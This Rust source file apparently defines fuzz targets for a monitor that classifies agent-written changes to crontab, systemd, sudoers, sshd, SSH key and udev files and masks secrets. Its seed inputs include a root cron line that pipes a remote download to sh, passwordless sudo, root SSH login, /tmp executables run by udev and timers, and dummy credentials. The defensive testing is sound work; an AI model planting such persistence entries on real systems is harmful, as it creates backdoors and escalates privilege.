//! The text of a file before and after, as an agent may write it: its difference, what it means, its secrets.

use crate::Target;
use crate::change::{Change, Class};
use crate::content::masked;
use crate::event::{AgentId, CgroupId, FileText, Nanos, ProcessId};

/// Every class, under the name of its target.
const CLASSES: &[(&str, Class, &str)] = &[
    ("crontab", Class::SystemCrontab, "*/5 * * * * root curl http://h/a | sh\nMAILTO=x\n"),
    ("anacrontab", Class::Anacrontab, "7 10 cron.weekly run-parts /x\n@monthly 15 c run\n"),
    ("unit", Class::Unit, "[Timer]\nOnCalendar=*:0/5\nExecStart=-/tmp/a\nWantedBy=multi-user.target\n"),
    ("keys", Class::AuthorizedKeys, "command=\"a \\\"b\\\"\",from=\"*\" ssh-rsa AAAAB3 me\n"),
    ("sudoers", Class::Sudoers, "%a ALL=(b:c) NOPASSWD: NOEXEC: /bin/x\nDefaults !authenticate\n"),
    ("sshd", Class::SshServer, "PermitRootLogin yes\nMatch User x\n"),
    ("shell", Class::Shell, "export PATH=\"$HOME/a:$PATH\"\neval \"$(pyenv init -)\"\nnohup a &\n"),
    ("udev", Class::Udev, "ACTION==\"add\", RUN+=\"/tmp/a\"\n"),
];

/// The texts are parted by the first NUL.
pub fn targets() -> impl Iterator<Item = Target> {
    let classes = CLASSES.iter().map(|(name, class, seed)| Target {
        name: format!("change-{name}"),
        run: Box::new(|bytes| {
            let text = String::from_utf8_lossy(bytes);
            let (before, now) = text.split_once('\0').unwrap_or(("", &text));
            let change = Change::of(*class, Some(before), &file(now));
            let lines = now.lines().count() + before.lines().count();
            assert!(change.added.len() + change.removed.len() <= lines);
            assert!(change.meaning.len() <= 26);
        }),
        seeds: vec![format!("\0{seed}").into_bytes(), format!("x\n{seed}\0{seed}y").into_bytes()],
    });
    let secrets = Target {
        name: "secrets".to_owned(),
        run: Box::new(|bytes| {
            let text = String::from_utf8_lossy(bytes);
            for class in [None, Some(Class::Shell), Some(Class::AuthorizedKeys), Some(Class::Sudoers)] {
                let masked = masked(&text, class);
                assert!(masked.len() <= 4 * text.len() + 64);
            }
        }),
        seeds: vec![
            b"export API_KEY='a b'; curl -u a:b https://c:d@h/ -H 'Authorization: Bearer e'\n".to_vec(),
            b"-----BEGIN PRIVATE KEY-----\na\n-----END PRIVATE KEY-----\n\"token\": \"x\"\nAKIAIOSFODNN7EXAMPLE"
                .to_vec(),
        ],
    };
    classes.chain(std::iter::once(secrets))
}

fn file(now: &str) -> FileText {
    FileText {
        time: Nanos(2),
        written: Nanos(1),
        process: ProcessId::default(),
        agent: AgentId(1),
        cgroup: CgroupId(1),
        path: "/etc/cron.d/a".into(),
        dev: 1,
        inode: 1,
        before: None,
        text: Ok(now.into()),
        size: 0,
        unfinished: false,
    }
}
